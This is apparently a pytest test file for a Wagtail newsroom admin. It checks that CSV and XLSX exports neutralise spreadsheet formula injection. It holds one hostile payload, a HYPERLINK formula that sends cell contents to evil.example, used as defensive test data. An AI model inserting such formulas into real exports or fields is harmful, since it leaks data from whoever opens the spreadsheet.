"""N12: no spreadsheet that leaves the admin holds a formula, Wagtail's own reports among them."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from tests.factories import (
    NewsPageFactory,
    OrganisationFactory,
    PersonFactory,
    TopicFactory,
    make_attachment,
    make_photo,
)
from tests.trust.admin_doors import admin_patterns
from tests.trust.planting import World
from wagtail_newsroom.news.admin.lists.exports import FORMULA_STARTS, plain_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture
def boss(world: World, admin_client: Client) -> Client:
    """Somebody whose every list holds a row that is called by a formula."""
    page = NewsPageFactory(parent=world.tree["news"], title=FORMULA, slug="formula")
    page.save_revision(log_action=True).publish()
    for make in (TopicFactory, PersonFactory, OrganisationFactory):
        make(name=FORMULA)
    make_photo(FORMULA, name="formula.jpg")
    make_attachment(FORMULA, name="formula.txt")
    return admin_client


def exported(boss: Client, kind: str) -> dict[str, bytes]:
    """What each address of the admin gives out as a spreadsheet of ``kind``."""
    found = {}
    for door in admin_patterns():
        if door.names or door.pattern.startswith(("/admin/failwhale/", "/admin/logout/")):
            continue
        answer = boss.get(f"{door.pattern}?export={kind}")
        if answer.status_code == 200 and f".{kind}" in answer.headers.get("Content-Disposition", ""):
            found[door.pattern] = b"".join(answer.streaming_content)
    return found


def test_t17_no_cell_of_any_export_is_a_formula(boss: Client) -> None:
    found = exported(boss, "csv")
    rows = {address: list(csv.reader(io.StringIO(text.decode()))) for address, text in found.items()}

    bad = {address: cell for address, lines in rows.items() for line in lines for cell in line if is_formula(cell)}
    assert bad == {}
    assert "/admin/reports/site-history/" in rows
    holding = [address for address, lines in rows.items() if any(f"'{FORMULA}" in line for line in lines)]
    assert len(holding) >= 5, holding


def test_t17_workbook_holds_text_alone(boss: Client) -> None:
    for address in ("/admin/reports/site-history/", "/admin/newsroom_news/"):
        content = b"".join(boss.get(f"{address}?export=xlsx").streaming_content)
        cells = [cell for line in load_workbook(io.BytesIO(content)).active.rows for cell in line]
        assert [cell.value for cell in cells if cell.data_type == "f"] == []
        assert f"'{FORMULA}" in [cell.value for cell in cells]


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and cell != "-"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_t17_every_view_with_an_export_writes_text(start: str) -> None:
    """The mixin under all of them, for the fields of hosts that nobody has thought of."""
    view: Any = type("View", (SpreadsheetExportMixin,), {})()
    for value in (f"{start}1+1", [f"{start}1"]):
        for kind in view.FORMATS:
            assert (
                view.preprocess_field_value("title", value, kind) == f"'{value if isinstance(value, str) else value[0]}"
            )
    assert view.preprocess_field_value("number", -5, "csv") == plain_cell(-5) == -5
